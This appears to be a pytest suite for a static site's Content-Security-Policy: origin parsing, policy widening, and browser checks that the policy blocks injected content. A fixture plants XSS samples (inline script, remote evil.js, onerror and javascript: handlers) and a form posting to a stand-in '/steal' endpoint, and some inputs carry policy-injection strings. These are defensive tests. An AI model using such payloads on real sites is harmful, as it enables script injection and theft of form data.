"""Every page carries a Content-Security-Policy: its sources, its widening, and what a browser does with it."""

from __future__ import annotations

import functools
import http.server
import re
import threading
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from csp.policy import BASE, fetched_sources, header, origin, parse, parsed_sources, widen
from hypothesis import given
from hypothesis import strategies as st
from publishing.strict import strict_build

from tests.conftest import ARTICLE, QuietHandler
from tests.formservice import FormService
from tests.sitebuild import ROOT, build_site, copy_content, page
from tests.test_escaping import html_pages

# A post that shows an image from an old blog's media host, a page that embeds a video
# player whose API it calls (its CSP field says so), and a template page that runs WebAssembly.
REMOTE_IMAGE_POST = """\
Title: Interview Outfits, Then and Now
Date: 2015-03-01 10:00
Author: Chris
Tags: interviews
Slug: interview-outfits

| Then | Now |
| :--- | ---: |
| suit | jacket |

![A 2014 photo of a suit](https://media.oldblog.example/2014/03/suit.jpg "Then")

<div class="wp-block-cover" style="background-image:url(https://covers.oldblog.example/2014/cover.jpg);min-height:2em">
<p>A cover block, as WordPress wrote them: the image in the style attribute.</p>
</div>

<table background="https://covers.oldblog.example/2014/paper.png"><tr><td>An old table</td></tr></table>
"""
VIDEO_PAGE = """\
Title: Watch the Workshop
Date: 2015-04-01
CSP: connect-src https://api.video.example; bogus-src x; img-src javas'cript:

<iframe src="https://video.example/embed/42" title="The workshop"></iframe>
"""
SEARCH_TEMPLATE = """\
{% extends "base.html" %}
{% set csp_widen = {"script-src": ["'wasm-unsafe-eval'"]} %}
{% block content %}<h1>Search</h1>{% endblock content %}
"""


def policy_of(soup: BeautifulSoup) -> dict[str, list[str]]:
    """A page's policy from its meta tag, as directive -> sources."""
    metas = soup.find_all("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert len(metas) == 1
    return {part.split()[0]: part.split()[1:] for part in metas[0]["content"].split(";") if part.strip()}


def csp_content(tmp: Path) -> Path:
    content = copy_content(tmp)
    (content / "interview-outfits.md").write_text(REMOTE_IMAGE_POST, encoding="utf-8")
    (content / "pages").mkdir()
    (content / "pages" / "workshop.md").write_text(VIDEO_PAGE, encoding="utf-8")
    (content / "search.html").write_text(SEARCH_TEMPLATE, encoding="utf-8")
    return content


# Build settings for that content: the search template is a template page, not a post.
TEMPLATE_PAGE = {"TEMPLATE_PAGES": {"search.html": "search/index.html"}, "IGNORE_FILES": ["search.html", "*.credit"]}


@pytest.fixture(scope="module")
def production(tmp_path_factory):
    """The production build (publishconf.py) of that content; returns (output, warnings)."""
    tmp = tmp_path_factory.mktemp("csp-production")
    content = csp_content(tmp)
    output = tmp / "output"
    warnings = strict_build(
        str(ROOT / "publishconf.py"),
        {
            "PATH": str(content),
            "OUTPUT_PATH": str(output),
            "SITEURL": "https://second-round.example",
            "COMMENTS_FORMSPREE_ID": "xyzzy",
            "CSP_FORM_ACTION": ["https://newsletter.example/subscribe"],
            "CSP_SOURCES": {"font-src": ["https://fonts.example"]},
            "PUBLISHING_CHECK_LINKS": False,
            **TEMPLATE_PAGE,
        },
    )
    return output, warnings


def test_every_page_of_a_production_build_carries_the_policy_first(production):
    output, _warnings = production
    pages = html_pages(output)
    assert len(pages) > 15
    for path, soup in pages:
        head = [tag for tag in soup.head.find_all(True, recursive=False)]
        assert head[1].get("http-equiv") == "Content-Security-Policy", path  # right after <meta charset>
        policy = policy_of(soup)
        assert policy["script-src"][0] == "'self'" and "'unsafe-inline'" not in policy["script-src"], path
        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"], path


def test_the_policy_allows_what_the_content_uses_and_the_form_services(production):
    output, _warnings = production
    policy = policy_of(page(output, ARTICLE))
    assert policy["img-src"] == ["'self'", "https://covers.oldblog.example", "https://media.oldblog.example"]
    assert policy["form-action"] == ["'self'", "https://formspree.io", "https://newsletter.example"]
    assert policy["style-src"] == ["'self'"] and policy["style-src-attr"] == ["'unsafe-inline'"]
    assert policy["font-src"] == ["'self'", "https://fonts.example"]  # the owner's CSP_SOURCES
    assert "connect-src" not in policy
    outfits = page(output, "interview-outfits/")
    assert outfits.select("table th[style]")  # Markdown's alignment, which style-src-attr allows


def test_a_page_widens_its_own_policy_and_no_other(production):
    output, warnings = production
    assert policy_of(page(output, "watch-the-workshop/"))["connect-src"] == ["'self'", "https://api.video.example"]
    assert policy_of(page(output, "search/"))["script-src"] == ["'self'", "'wasm-unsafe-eval'"]
    for path, soup in html_pages(output):
        policy = policy_of(soup)
        assert policy["frame-src"] == ["'self'", "https://video.example"], path  # the content's own embed
        if path not in ("watch-the-workshop/index.html", "search/index.html"):
            assert "connect-src" not in policy and policy["script-src"] == ["'self'"], path
    # `file:LINE: message`, as every build reports a problem of a file (the line of the field: 1 when unknown)
    # (said by the content check at the field's line since a later tester's finding: they showed at line 1)
    said = [
        w for w in warnings if re.search(r"workshop\.md:\d+: (?:warning: )?CSP field: unknown directive 'bogus-src'", w)
    ]
    assert said and not [w for w in said if "workshop.md:1:" in w], warnings
    assert any('img-src: "javas\'cript:" is not a source' in w for w in warnings), warnings


def test_redirect_pages_load_nothing(tmp_path):
    from wordpress import REDIRECT_POLICY, redirect_page

    soup = BeautifulSoup(redirect_page("https://site.example/new/", "New"), "html.parser")
    assert soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"] == REDIRECT_POLICY
    assert "default-src 'none'" in REDIRECT_POLICY


def test_development_builds_allow_livereload_and_csp_false_writes_none(tmp_path):
    output = build_site(tmp_path / "dev")
    policy = policy_of(page(output, ARTICLE))
    assert "'unsafe-inline'" in policy["script-src"] and "ws:" in policy["connect-src"]
    off = build_site(tmp_path / "off", CSP=False)
    assert not page(off, ARTICLE).find("meta", attrs={"http-equiv": "Content-Security-Policy"})


@pytest.mark.parametrize(
    ("url", "source"),
    [
        ("https://media.example/a.jpg", "https://media.example"),
        ("http://Media.Example:8080/a.jpg", "http://media.example:8080"),
        ("//cdn.example/x.png", "cdn.example"),
        ("data:image/png;base64,AAAA", "data:"),
        ("images/x.jpg", ""),
        ("{static}/images/x.jpg", ""),
        ("javascript:alert(1)", ""),
        ("https://a.example'; script-src *", ""),
        ("http://[::1", ""),
        # As a browser reads them (the WHATWG URL standard; an outside tester's cases, checked with Node's URL):
        ("https://photos.example:80a/x.png", ""),  # no port a browser accepts: no fetch, and no crash
        ("https://photos.example:99999/x.png", ""),
        ("https://photos.example:*/x.png", ""),
        ("https://*.com/x.png", ""),  # content never widens the policy to a wildcard
        ("https:\\\\backslash.example\\x.png", "https://backslash.example"),
        ("/\\slashbackslash.example/x.png", "slashbackslash.example"),
        ("https://evil.example\\@good.example/x", "https://evil.example"),
        ("https://bücher.example/x.png", "https://xn--bcher-kva.example"),
        ("  https://spaced.example/x.png\n", "https://spaced.example"),
        ("ht\ttps://tab.exa\nmple/x.png", "https://tab.example"),
        ("https://q.example/x.png?next=\\\\other.example", "https://q.example"),
        # A second tester's, against Node's URL:
        ("http:evil.example/x.png", "http://evil.example"),
        ("https:///evil.example/x", "https://evil.example"),
        ("///evil.example/x.png", "evil.example"),
        ("https://ex%61mple.com/x", "https://example.com"),
        ("https://faß.de/x.png", "https://xn--fa-hia.de"),
        ("https://0x7f.1/x.png", "https://127.0.0.1"),
        ("https://08.1.1.1/x.png", ""),
        ("http://evil.example:0/x.png", "http://evil.example:0"),
        ("https://page.invalid/x.png", ""),  # the base the relative ones are read from: never in a policy
        ("https:evil.com/x.png", ""),  # relative on an https page: the site's own (a third tester's case)
    ],
)
def test_origin_of_a_fetched_url(url, source):
    assert origin(url) == source


def test_fetched_sources_finds_images_media_and_frames():
    html = (
        '<img src="https://a.example/1.jpg" srcset="https://b.example/1.jpg 480w, images/x.jpg 800w">'
        '<video src="https://c.example/v.mp4" poster="https://d.example/p.jpg"></video>'
        '<iframe src="https://e.example/embed"></iframe><a href="https://not-fetched.example/">link</a>'
    )
    assert fetched_sources(html) == {
        "img-src": {"https://a.example", "https://b.example", "https://d.example"},
        "media-src": {"https://c.example"},
        "frame-src": {"https://e.example"},
    }


@pytest.mark.parametrize(
    "html",
    [
        '<img src="//cdn.example.com/a.png">',  # scheme-relative: no "://" in it
        '<img src="https&#58;//cdn.example.com/a.png">',
        '<IMG SRC="https:&sol;&sol;cdn.example.com/a.png">',
        '<picture><source\nsrcset="https://cdn.example.com/a.webp 2x"></picture>',
        '<svg><image href="https://cdn.example.com/a.png"/></svg>',
        '<input type="image" src="https://cdn.example.com/go.png" alt="Go">',
    ],
)
def test_a_fetch_from_another_site_is_found_however_its_url_is_written(html):
    assert fetched_sources(html) in (
        {"img-src": {"cdn.example.com"}},
        {"img-src": {"https://cdn.example.com"}},
    )


FRAGMENTS = st.sampled_from(
    ["<img", "<IMG", "<iMg", "<source", "<video", "<audio", "<track", "<iframe", "<a", "<p>", " src=", " srcset=",
     " poster=", " href=", '"', "'", "//", "https://", "data:", "&#58;", "&colon;", "&sol;", "x.example", "/a.png",
     ">", " ", "\n", "<!--", "-->", "<script>", "</script>", ", ", " 2x", "\u212a", " style=", "STYLE=", "url(",
     "<table", " background=", ")", "/*", "*/"]
)  # fmt: skip


@given(st.lists(FRAGMENTS, max_size=30).map("".join))
def test_the_shortcut_finds_what_parsing_finds(html):
    """Skipping the parse for HTML with no tag that fetches never loses a source."""
    assert fetched_sources(html) == parsed_sources(html)


def test_widening_only_ever_adds():
    widened = widen(BASE, {"connect-src": ("https://api.example",), "object-src": ("https://x.example",)})
    assert widened["connect-src"] == ("'self'", "https://api.example")  # from default-src, as a browser would
    assert widened["object-src"] == ("https://x.example",)  # 'none' gives way
    assert widen(BASE, {"img-src": ("'none'",)})["img-src"] == ("'self'",)
    assert all(set(BASE[d]) <= set(widened[d]) or BASE[d] == ("'none'",) for d in BASE)


def test_parse_keeps_what_is_valid_and_names_the_rest():
    policy, problems = parse("script-src 'wasm-unsafe-eval' 'sha256-AbC+/0=';;frame-src https://v.example 'bad' <x>; y")
    assert policy == {"script-src": ("'wasm-unsafe-eval'", "'sha256-AbC+/0='"), "frame-src": ("https://v.example",)}
    assert [p.split(" is not")[0].split(" (")[0] for p in problems] == [
        "frame-src: \"'bad'\"",
        "frame-src: '<x>'",
        "unknown directive 'y'",
    ]
    assert header(policy) == "script-src 'wasm-unsafe-eval' 'sha256-AbC+/0='; frame-src https://v.example"


# --- In the browser: the policy holds, and the real pages work under it ---------------------------

PLANTED = """
<script>document.documentElement.dataset.planted = "inline";</script>
<script src="{evil}/evil.js"></script>
<img src="x" onerror="document.documentElement.dataset.planted = 'handler'">
<a id="planted-link" href="javascript:document.documentElement.dataset.planted = 'link'">a link</a>
<form id="planted-form" action="{evil}/steal" method="post"><input name="q" value="1"><button>Send</button></form>
<div style="background-image: url({evil}/planted.png); min-height: 1em">a background no post uses</div>
"""


class Server:
    """A static file server on 127.0.0.1 (port 0), serving a folder and noting every request it gets."""

    def __init__(self, folder: Path):
        requests = self.requests = []

        class Noting(QuietHandler):
            def do_GET(self):
                requests.append(f"GET {self.path}")
                super().do_GET()

            def do_POST(self):
                requests.append(f"POST {self.path}")
                self.send_response(204)
                self.end_headers()

        handler = functools.partial(Noting, directory=str(folder))
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def strict_site(tmp_path_factory):
    """The production policy on a site served from 127.0.0.1, its comments posting to a stand-in service,
    and a second origin serving a script that would mark the page if it ran."""
    tmp = tmp_path_factory.mktemp("csp-browser")
    content = csp_content(tmp)
    output, elsewhere = tmp / "output", tmp / "elsewhere"
    output.mkdir()
    elsewhere.mkdir()
    (elsewhere / "evil.js").write_text('document.documentElement.dataset.planted = "remote";')
    site, evil = Server(output), Server(elsewhere)
    with FormService(tmp / "export.json") as service:
        build_site(
            output,
            PATH=str(content),
            CSP_DEVELOPMENT=False,
            COMMENTS_SERVICE="custom",
            COMMENTS_FORM_ACTION=service.url,
            SITEURL=site.url,
            **TEMPLATE_PAGE,
        )
        (output / "planted" / "index.html").parent.mkdir()
        article = (output / ARTICLE / "index.html").read_text(encoding="utf-8")
        planted = article.replace("</main>", PLANTED.format(evil=evil.url) + "</main>")
        (output / "planted" / "index.html").write_text(planted, encoding="utf-8")
        yield {"site": site.url, "service": service, "elsewhere": evil}
    site.close()
    evil.close()


def watch_violations(tab) -> None:
    """Have every page the tab opens note its CSP violations in `window.__csp` ('directive blocked-uri')."""
    tab.add_init_script(  # init scripts run outside the page's policy
        "window.__csp = []; document.addEventListener('securitypolicyviolation',"
        " e => window.__csp.push(e.effectiveDirective + ' ' + e.blockedURI));"
    )


def violations(tab) -> list[str]:
    """The violations the page in the tab has reported so far."""
    return tab.evaluate("window.__csp")


@pytest.mark.parametrize("path", ["", ARTICLE, "interview-outfits/", "search/"])
def test_the_real_pages_work_with_no_violation(browser_page, strict_site, path):
    watch_violations(browser_page)
    browser_page.goto(f"{strict_site['site']}/{path}")
    browser_page.wait_for_load_state("networkidle")
    assert browser_page.evaluate("document.styleSheets.length") >= 4
    assert "Charter" in browser_page.evaluate("getComputedStyle(document.body).fontFamily")  # tokens.css applies
    assert violations(browser_page) == []


def test_a_script_planted_in_a_page_does_not_run(browser_page, strict_site):
    watch_violations(browser_page)
    browser_page.goto(f"{strict_site['site']}/planted/")
    browser_page.wait_for_load_state("networkidle")
    assert browser_page.evaluate("document.documentElement.dataset.planted") is None
    directives = {v.split()[0] for v in violations(browser_page)}
    assert {"script-src-elem", "script-src-attr"} <= directives, violations(browser_page)
    assert f"img-src {strict_site['elsewhere'].url}/planted.png" in violations(browser_page)  # precise, not open
    assert not [r for r in strict_site["elsewhere"].requests if "evil.js" in r]  # never even fetched
    reported = len(violations(browser_page))
    browser_page.locator("#planted-link").click()  # a javascript: URL is a script too
    browser_page.wait_for_function(f"() => window.__csp.length > {reported}")
    assert browser_page.evaluate("document.documentElement.dataset.planted") is None


def test_the_comment_form_posts_to_its_service(browser, strict_site):
    context = browser.new_context(java_script_enabled=False)
    tab = context.new_page()
    tab.goto(f"{strict_site['site']}/{ARTICLE}")
    form = tab.locator("#respond form")
    form.locator("input[name=name]").fill("Reader")
    form.locator("input[name=email]").fill("reader@example.com")
    form.locator("textarea[name=comment]").fill("Thanks, this helped.")
    form.get_by_role("button", name="Post Comment").click()
    tab.wait_for_url("**/comment-received/")
    assert strict_site["service"].submissions[-1]["data"]["comment"] == "Thanks, this helped."
    context.close()


def test_a_planted_form_cannot_post_to_another_site(browser_page, strict_site):
    watch_violations(browser_page)
    browser_page.goto(f"{strict_site['site']}/planted/")
    browser_page.locator("#planted-form").evaluate("form => form.requestSubmit()")  # as its button would
    browser_page.wait_for_function("() => window.__csp.some(v => v.startsWith('form-action'))")
    assert not [r for r in strict_site["elsewhere"].requests if r.startswith("POST")]


ODD_ADDRESSES_POST = """\
Title: Addresses Written Every Which Way
Date: 2015-03-02 10:00
Author: Chris
Tags: interviews
Slug: odd-addresses
Image: https://photos.example:99999/lead.png

<img src="https://photos.example:80a/x.png" alt="A port that is no number">
<img src="https://*.com/x.png" alt="A wildcard host">
<img src="//scheme-relative.example/x.png" alt="Scheme-relative">
<img src="https:\\\\backslash.example\\x.png" alt="Backslashes">
<img src="https://bücher.example/x.png" alt="A host in Unicode">
"""


def test_a_post_with_addresses_no_browser_fetches_builds_and_widens_the_policy_only_by_real_hosts(tmp_path):
    content = copy_content(tmp_path)
    (content / "odd-addresses.md").write_text(ODD_ADDRESSES_POST, encoding="utf-8")
    output = build_site(tmp_path / "out", PATH=str(content))
    images = policy_of(page(output, "odd-addresses/"))["img-src"]
    assert {"scheme-relative.example", "https://backslash.example", "https://xn--bcher-kva.example"} <= set(images)
    assert not any("*" in source or "photos.example" in source for source in images)


def test_a_srcset_is_split_as_browsers_split_it_and_a_repeated_attribute_counts_once():
    html = (
        '<img srcset="https://a.example/img.png,https://b.example/img2.png 2x, https://c.example/x.png 3x,'
        'https://d.example/y.png">'
        '<img src="x.png" src="https://dup.example/x.png">'
    )
    assert fetched_sources(html) == {"img-src": {"https://a.example", "https://c.example", "https://d.example"}}


@pytest.mark.parametrize(
    "html",
    [
        "<div style=\"background-image: url('https://cdn.example.com/a.jpg')\">x</div>",
        '<div style="background:URL(https://cdn.example.com/b.png) no-repeat">x</div>',
        '<div style="background: u\\72l(https://cdn.example.com/c.png)">x</div>',  # an escape, as CSS reads it
        '<div style="background: url( https://cdn.example.com/d.png )">x</div>',
        '<div style="background: url(https://cdn.example.com/e.png">x</div>',  # unclosed at the end: still fetched
        "<span style=\"background-image: image-set('https://cdn.example.com/f.png' 1x)\">x</span>",
        '<svg><rect style="fill: red; mask-image: url(&quot;https://cdn.example.com/m.svg&quot;)"/></svg>',
        '<table background="https://cdn.example.com/t.png"><tr><td>x</td></tr></table>',
        '<table><tr><td background="//cdn.example.com/td.png">x</td></tr></table>',
        '<table><colgroup background="https://cdn.example.com/cg.png"><col></colgroup></table>',
        '<div style="BACKGROUND-IMAGE: url(https://cdn.example.com/upper.png)">x</div>',
        '<ul style="list-style: square url(https://cdn.example.com/bullet.png)"><li>x</li></ul>',
    ],
)
def test_an_image_in_css_or_a_background_attribute_is_found(html):
    assert fetched_sources(html) in ({"img-src": {"cdn.example.com"}}, {"img-src": {"https://cdn.example.com"}})


def test_css_nested_thousands_deep_is_read_without_a_crash():
    nested = "f(" * 5000 + "url(https://deep.example/x.png)" + ")" * 5000
    assert fetched_sources(f'<div style="background: {nested}">x</div>') == {"img-src": {"https://deep.example"}}


def test_css_that_fetches_nothing_from_another_site_adds_nothing():
    assert fetched_sources('<div style="/* url(https://a.example/x.png) */ color: red">x</div>') == {}
    assert fetched_sources("<div style=\"content: 'url(https://b.example/x.png)'\">x</div>") == {}  # a string
    assert fetched_sources('<div style="filter: url(#shadow); background: url(images/x.png)">x</div>') == {}
    assert fetched_sources('<p background="https://c.example/p.png">no such attribute on a paragraph</p>') == {}
    assert fetched_sources('<div style="background: url(javascript:alert(1))">x</div>') == {}
    # A url() where no image is shown fetches nothing, and widens nothing: an imported post's colour may hold one.
    assert fetched_sources('<span style="color: url(https://d.example/p.png)">x</span>') == {}
    assert fetched_sources('<span style="font-size: url(https://d.example/p.png)">x</span>') == {}
    assert fetched_sources('<div style="--image: url(https://e.example/p.png)">x</div>') == {}
    assert fetched_sources('<div style="filter: url(https://f.example/f.svg#blur)">x</div>') == {}


def test_what_a_browser_never_fetches_from_another_site_adds_nothing():
    """A third tester's cases: a NUL before an address (the browser reads U+FFFD, a relative address),
    and SVG's xlink:href beside an href (the browser reads href)."""
    assert fetched_sources('<img src="\x00https://evil.com/x.png">') == {}
    assert fetched_sources('<svg><image xlink:href="https://x.example/a" href="https://y.example/b"/></svg>') == {
        "img-src": {"https://y.example"}
    }
    assert fetched_sources('<svg><image xlink:href="https://x.example/a"/></svg>') == {"img-src": {"https://x.example"}}
